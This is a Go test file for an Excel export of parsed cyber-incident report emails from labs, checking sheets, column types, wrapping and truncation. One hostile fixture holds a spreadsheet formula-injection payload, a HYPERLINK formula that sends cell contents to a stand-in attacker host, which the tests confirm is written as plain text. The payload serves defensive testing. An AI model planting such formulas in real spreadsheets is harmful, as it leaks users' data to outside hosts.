package workbook

import (
	"bytes"
	"context"
	"fmt"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/xuri/excelize/v2"

	"cyberintake/classify"
	"cyberintake/mailparse"
	"cyberintake/store"
)

func report(msgID, lab, date, lang string, sec mailparse.Sections) *mailparse.Result {
	r := &mailparse.Result{File: msgID + ".eml", MessageID: msgID, From: "q@lab.example", Date: date,
		Subject: "Cyber attaque – labo " + lab, Kind: mailparse.KindReport, Language: lang, Sections: sec,
		References: []string{}, Attachments: []mailparse.Attachment{}, Warnings: []string{},
		Tags: classify.Tags{Cause: []string{}, Impact: []string{}, Response: []string{}, Prevention: []string{}}}
	if lab != "" {
		r.Lab = &lab
	}
	return r
}

var (
	formula  = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	megabyte = strings.Repeat("Le LIS était arrêté. ", 50_000) // ~1 MB
)

// testStore files three reports (one hostile) and an auto-reply.
func testStore(t *testing.T) *store.Store {
	t.Helper()
	st, err := store.Open(filepath.Join(t.TempDir(), "store.db"), nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	first := report("first@lab", "12345", "2021-02-10T09:00:00+01:00", "fr", mailparse.Sections{A: "Phishing", B: "LIS arrêté", C: "Plan dégradé", D: "MFA"})
	first.Tags.Cause = []string{"phishing", "ransomware"}
	first.DowntimeDays = ptr(2.46)
	first.Contact = mailparse.Contact{Name: "Dr Dupont", Email: "dupont@lab.example", Phone: "+32 2 123 45 67"}
	second := report("second@lab", "12345", "2021-03-01T10:00:00Z", "fr", mailparse.Sections{E: "NC-2021-014"})
	second.References = []string{"NC-2021-014"}
	hostile := report("hostile@lab", "LABO-77", "2021-02-20T12:00:00+02:00", "nl",
		mailparse.Sections{A: formula, B: "-1+1", C: "bell\x07 nul\x00 esc\x1b[31m red", D: megabyte})
	hostile.Tags.Cause = []string{"ransomware"}
	hostile.NeedsReview = true
	auto := report("auto@lab", "", "2021-02-11T00:00:00Z", "", mailparse.Sections{})
	auto.Kind = mailparse.KindAutoReply
	for _, res := range []*mailparse.Result{first, second, hostile, auto} {
		raw := fmt.Appendf(nil, "Message-ID: <%s>\r\n\r\nbody\r\n", res.MessageID)
		if _, err := st.Put(context.Background(), []store.Message{{Raw: raw, Result: res, Source: store.Source{Kind: "eml", Name: res.File}}}); err != nil {
			t.Fatal(err)
		}
	}
	return st
}

func ptr[T any](v T) *T { return &v }

// writeTest writes the workbook of the test store's reports and opens it.
func writeTest(t *testing.T) (*excelize.File, []byte) {
	t.Helper()
	var buf bytes.Buffer
	if err := Write(context.Background(), testStore(t), store.Filter{Kind: mailparse.KindReport}, &buf); err != nil {
		t.Fatal(err)
	}
	x, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatalf("excelize cannot read the workbook back: %v", err)
	}
	t.Cleanup(func() { x.Close() })
	return x, buf.Bytes()
}

// cellOf returns the cell of the column headed head in row (1-based, header = 1).
func cellOf(t *testing.T, x *excelize.File, sheet, head string, row int) string {
	t.Helper()
	heads, err := x.GetRows(sheet, excelize.Options{RawCellValue: true})
	if err != nil || len(heads) == 0 {
		t.Fatalf("sheet %s: %v", sheet, err)
	}
	for i, h := range heads[0] {
		if h == head {
			c, _ := excelize.CoordinatesToCellName(i+1, row)
			return c
		}
	}
	t.Fatalf("sheet %s has no column %q: %q", sheet, head, heads[0])
	return ""
}

func TestWorkbookSheetsAndRows(t *testing.T) {
	x, _ := writeTest(t)
	if got := x.GetSheetList(); strings.Join(got, "|") != "reports|lab cases|counts" {
		t.Fatalf("sheets %q", got)
	}
	for _, tc := range []struct {
		sheet string
		cols  []column
		rows  int
	}{
		{SheetReports, reportColumns(), 3},
		{SheetCases, caseColumns(), 2},
	} {
		rows, err := x.GetRows(tc.sheet)
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) != tc.rows+1 {
			t.Errorf("%s: %d rows, want header + %d", tc.sheet, len(rows), tc.rows)
		}
		for i, c := range tc.cols {
			if i >= len(rows[0]) || rows[0][i] != c.Head {
				t.Errorf("%s: column %d is %q, want %q", tc.sheet, i+1, rows[0][min(i, len(rows[0])-1)], c.Head)
			}
		}
		panes, err := x.GetPanes(tc.sheet)
		if err != nil || !panes.Freeze || panes.YSplit != 1 || panes.TopLeftCell != "A2" {
			t.Errorf("%s: header not frozen: %+v %v", tc.sheet, panes, err)
		}
		names := x.GetDefinedName()
		found := false
		for _, n := range names {
			found = found || n.Name == "_xlnm._FilterDatabase" && strings.Contains(n.RefersTo, tc.sheet)
		}
		if !found {
			t.Errorf("%s: no filter on the header (%+v)", tc.sheet, names)
		}
		if w, _ := x.GetColWidth(tc.sheet, "B"); w != tc.cols[1].Width {
			t.Errorf("%s: column B %v wide, want %v", tc.sheet, w, tc.cols[1].Width)
		}
	}
	if v, _ := x.GetCellValue(SheetCases, "A2"); v != "12345" {
		t.Errorf("first case is %q", v)
	}
	e, _ := x.GetCellValue(SheetCases, cellOf(t, x, SheetCases, "e) quality-system records", 2))
	if e != "NC-2021-014" {
		t.Errorf("the case merges e) from the follow-up: %q", e)
	}
	counts, _ := x.GetRows(SheetCounts)
	want := [][]string{{"labs", "", "", "", "2"}, {"reports", "", "", "", "3"}, {"tag", "cause", "ransomware", "", "2"}}
	for i, w := range want {
		if strings.Join(counts[i+1], "|") != strings.Join(w, "|") {
			t.Errorf("counts row %d = %q, want %q", i+2, counts[i+1], w)
		}
	}
	if last := counts[len(counts)-1]; strings.Join(last, "|") != "month|||2021-03|1" {
		t.Errorf("last counts row %q, want month 2021-03: 1", last)
	}
}

func TestWorkbookTypedCells(t *testing.T) {
	x, _ := writeTest(t)
	for _, tc := range []struct {
		head, raw, shown string
		numeric          bool
	}{
		{"id", "1", "1", true},
		{"received (UTC)", "44237.333333333336", "2021-02-10 08:00", true},
		{"UTC offset", "+01:00", "+01:00", false},
		{"downtime (days)", "2.5", "2.5", true},
		{"tags: cause", "phishing; ransomware", "phishing; ransomware", false},
	} {
		cell := cellOf(t, x, SheetReports, tc.head, 2)
		raw, _ := x.GetCellValue(SheetReports, cell, excelize.Options{RawCellValue: true})
		shown, _ := x.GetCellValue(SheetReports, cell)
		typ, _ := x.GetCellType(SheetReports, cell)
		if _, err := strconv.ParseFloat(raw, 64); (err == nil) != tc.numeric || (tc.numeric && typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber) {
			t.Errorf("%s: raw %q type %v, numeric %v wanted", tc.head, raw, typ, tc.numeric)
		}
		if tc.numeric && raw != tc.raw || shown != tc.shown {
			t.Errorf("%s: raw %q shown %q, want %q %q", tc.head, raw, shown, tc.raw, tc.shown)
		}
	}
	style, _ := x.GetCellStyle(SheetReports, cellOf(t, x, SheetReports, "a) cause and method", 2))
	if s, err := x.GetStyle(style); err != nil || s.Alignment == nil || !s.Alignment.WrapText {
		t.Errorf("answers not wrapped: %+v %v", s, err)
	}
}

// TestWorkbookHostileText: mail text stays text (no formula), loses the
// characters XML cannot hold, and a megabyte answer is cut with a marker.
func TestWorkbookHostileText(t *testing.T) {
	x, _ := writeTest(t)
	row := 4 // the hostile report, third in filing order
	for head, want := range map[string]string{
		"a) cause and method":  formula,
		"b) activities hit":    "-1+1",
		"c) immediate actions": "bell nul esc[31m red",
	} {
		cell := cellOf(t, x, SheetReports, head, row)
		got, _ := x.GetCellValue(SheetReports, cell)
		f, _ := x.GetCellFormula(SheetReports, cell)
		if got != want || f != "" {
			t.Errorf("%s: %q (formula %q), want the text %q", head, got, f, want)
		}
	}
	d, _ := x.GetCellValue(SheetReports, cellOf(t, x, SheetReports, "d) preventive measures", row))
	if n := len(utf16.Encode([]rune(d))); n > MaxCellChars || n < MaxCellChars-100 {
		t.Errorf("1 MB answer written as %d UTF-16 units, want just under %d", n, MaxCellChars)
	}
	if !strings.HasSuffix(d, "more characters]") || !strings.HasPrefix(d, "Le LIS était arrêté.") {
		t.Errorf("cut answer lacks its marker: …%q", d[max(0, len(d)-60):])
	}
	if r, _ := x.GetCellValue(SheetReports, cellOf(t, x, SheetReports, "needs-review reasons", row)); r == "" {
		t.Errorf("needs-review reasons empty for a message that needs review")
	}
}

func TestCellText(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"a\r\nb", "a\nb"},
		{"x\x00\x01\x1fy\tz", "xy\tz"},
		{"\uffff\ufffe", ""},
		{"😀", "😀"},
	} {
		if got := cellText(tc.in); got != tc.want {
			t.Errorf("cellText(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
	// Astral characters count two units: the cut keeps within the limit.
	long := cellText(strings.Repeat("😀", MaxCellChars))
	if n := len(utf16.Encode([]rune(long))); n > MaxCellChars {
		t.Errorf("%d units", n)
	}
}
